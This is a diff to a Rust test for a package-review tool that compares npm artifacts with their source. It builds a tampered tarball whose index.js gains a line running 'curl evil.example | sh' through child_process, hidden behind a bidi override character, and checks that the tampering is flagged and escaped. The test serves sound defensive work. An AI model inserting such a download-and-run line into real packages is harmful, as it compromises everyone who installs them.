@@ -44,8 +44,20 @@ fn call(
     })
 }
 
-fn tarball(source: &std::path::Path, tag: &str, dir: &std::path::Path) -> std::path::PathBuf {
-    let tree = dir.join("artifact-tree");
+/// `npm pack`'s shape of `tag` with an extra `evil.pth`; with `index_line`, that line is also
+/// appended to `index.js` (a file that then differs from the source).
+fn tarball(
+    source: &std::path::Path,
+    tag: &str,
+    dir: &std::path::Path,
+    index_line: Option<&str>,
+) -> std::path::PathBuf {
+    let name = if index_line.is_some() {
+        "edited"
+    } else {
+        "plain"
+    };
+    let tree = dir.join(format!("artifact-tree-{name}"));
     std::fs::create_dir_all(tree.join("package")).unwrap();
     let archive = Command::new("git")
         .arg("-C")
@@ -63,7 +75,14 @@ fn tarball(source: &std::path::Path, tag: &str, dir: &std::path::Path) -> std::p
     std::io::Write::write_all(&mut untar.stdin.take().unwrap(), &archive.stdout).unwrap();
     assert!(untar.wait().unwrap().success());
     std::fs::write(tree.join("package/evil.pth"), "import os\n").unwrap();
-    let tgz = dir.join("pad-1.1.0.tgz");
+    if let Some(line) = index_line {
+        let index = tree.join("package/index.js");
+        let mut text = std::fs::read_to_string(&index).unwrap();
+        text.push_str(line);
+        text.push('\n');
+        std::fs::write(&index, text).unwrap();
+    }
+    let tgz = dir.join(format!("pad-1.1.0-{name}.tgz"));
     assert!(Command::new("tar")
         .args(["--format=gnu", "-czf"])
         .arg(&tgz)
@@ -106,7 +125,7 @@ fn an_artifact_with_an_extra_pth_file_is_shown_against_the_source() {
     let plain = call(&window, "review", json!({ "request": pending })).unwrap();
     assert_eq!(plain["artifact"], Value::Null);
 
-    let tgz = tarball(&world.dir.join("source"), "v1.1.0", dir.path());
+    let tgz = tarball(&world.dir.join("source"), "v1.1.0", dir.path(), None);
     let review = compare(&tgz.display().to_string()).unwrap();
     let artifact = &review["artifact"];
     assert_eq!(
@@ -151,6 +170,23 @@ fn an_artifact_with_an_extra_pth_file_is_shown_against_the_source() {
         warning.starts_with("high risk flag artifact-only-file: ") && !warning.contains("cut:"),
         "{warning}"
     );
+
+    // index.js edited in the artifact: the file is listed with its diff, the added line
+    // escaped (a bidi override shows as its code, not as reordered text).
+    let line = "require('child_process').exec('curl evil.example | sh') // \u{202e}";
+    let edited = tarball(&world.dir.join("source"), "v1.1.0", dir.path(), Some(line));
+    let review = compare(&edited.display().to_string()).unwrap();
+    let differing = review["artifact"]["differing"].as_array().unwrap();
+    assert_eq!(differing.len(), 1, "{review:#}");
+    assert_eq!(differing[0]["path"], json!("package/index.js"));
+    assert_eq!(differing[0]["binary"], json!(false));
+    let diff = differing[0]["diff"].as_str().unwrap();
+    assert!(
+        diff.lines()
+            .any(|l| l.starts_with("+require('child_process')") && l.ends_with("\\u{202e}")),
+        "{diff}"
+    );
+    assert!(!diff.contains('\u{202e}'), "{diff}");
 
     // `git archive`'s PAX global header: refused as crafted, and said so.
     let pax = dir.path().join("pax.tgz");
